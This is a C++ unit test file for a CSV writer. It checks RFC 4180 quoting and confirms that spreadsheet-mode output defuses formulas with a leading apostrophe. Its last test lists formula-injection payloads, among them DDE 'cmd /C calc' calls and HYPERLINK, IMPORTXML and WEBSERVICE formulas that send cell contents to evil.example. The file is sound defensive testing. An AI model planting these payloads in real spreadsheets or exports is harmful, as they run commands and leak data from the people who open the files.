#include "base/csv.h"

#include <gtest/gtest.h>

#include <optional>
#include <string_view>
#include <vector>

namespace mcprisk {
namespace {

std::string Sheet(const std::string& field) { return CsvRecord({field}, CsvReader::kSpreadsheet); }

TEST(Csv, FieldsAreQuotedWhereTheyMustBe) {
  EXPECT_EQ(
      CsvRecord({"a", "b c", "", "say \"hi\"", "x,y", "two\nlines", " blank"}, CsvReader::kProgram),
      "a,b c,,\"say \"\"hi\"\"\",\"x,y\",\"two\nlines\",\" blank\"\r\n");
  EXPECT_EQ(CsvRecord({}, CsvReader::kProgram), "\r\n");
}

TEST(Csv, NoFieldIsAFormula) {
  EXPECT_EQ(Sheet("=1+1"), "\"'=1+1\"\r\n");
  EXPECT_EQ(Sheet("+1"), "\"'+1\"\r\n");
  EXPECT_EQ(Sheet("-1"), "\"'-1\"\r\n");
  EXPECT_EQ(Sheet("@SUM(A1)"), "\"'@SUM(A1)\"\r\n");
  EXPECT_EQ(Sheet("  =1"), "\"'  =1\"\r\n");
  EXPECT_EQ(Sheet("\t=1"), "\"'\t=1\"\r\n");
  EXPECT_EQ(Sheet("\rx"), "\"'\rx\"\r\n");
  EXPECT_EQ(Sheet("\uff1d1"), "\"'\uff1d1\"\r\n");
  EXPECT_EQ(Sheet("a=1"), "a=1\r\n");
  EXPECT_EQ(CsvRecord({"=1+1"}, CsvReader::kProgram), "=1+1\r\n");
}

// Reads one record as RFC 4180 has it, strictly; nothing when it is none.
std::optional<std::vector<std::string>> Reread(std::string_view record) {
  if (!record.ends_with("\r\n")) return std::nullopt;
  record.remove_suffix(2);
  std::vector<std::string> fields(1);
  for (size_t at = 0; at <= record.size(); ++at) {
    std::string& field = fields.back();
    if (at < record.size() && record[at] == '"') {
      for (++at; at < record.size(); ++at) {
        if (record[at] == '"' && (++at == record.size() || record[at] != '"')) break;
        field += record[at];
      }
    } else {
      while (at < record.size() && record[at] != ',') {
        if (std::string_view("\"\r\n").find(record[at]) != std::string_view::npos) {
          return std::nullopt;
        }
        field += record[at++];
      }
    }
    if (at == record.size()) return fields;
    if (record[at] != ',') return std::nullopt;
    fields.emplace_back();
  }
  return std::nullopt;
}

TEST(Csv, PayloadsReadBackAsTheyWereButForTheApostrophe) {
  const std::vector<std::string> payloads = {
      "=1+1",
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
      "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
      "=WEBSERVICE(\"http://evil.example\")",
      "=DDE(\"cmd\";\"/C calc\";\"x\")",
      "+1+cmd|' /C calc'!A0",
      "+SUM(1,2)",
      "-2+3+cmd|' /C calc'!A0",
      "-1",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "@A1",
      "\t=1+1",
      "\r=1+1",
      " =1+1",
      "   +1",
      " \t=1",
      " -1",
      " @A1",
      "\uff1d1+1",
      "\uff0b1",
      "\uff0d1",
      "\uff20SUM(A1)",
      " \uff1d1",
      "=\"\"",
      "=1\n=2",
      "=1,=2",
      "=\"a\",\"b\"",
      "=\r\n",
      "=",
      "-",
      "@",
  };
  for (const std::string& payload : payloads) {
    const std::string record = CsvRecord({"first", payload, "last"}, CsvReader::kSpreadsheet);
    EXPECT_EQ(Reread(record), (std::vector<std::string>{"first", "'" + payload, "last"})) << record;
    const std::string raw = CsvRecord({"first", payload, "last"}, CsvReader::kProgram);
    EXPECT_EQ(Reread(raw), (std::vector<std::string>{"first", payload, "last"})) << raw;
  }
}

}  // namespace
}  // namespace mcprisk
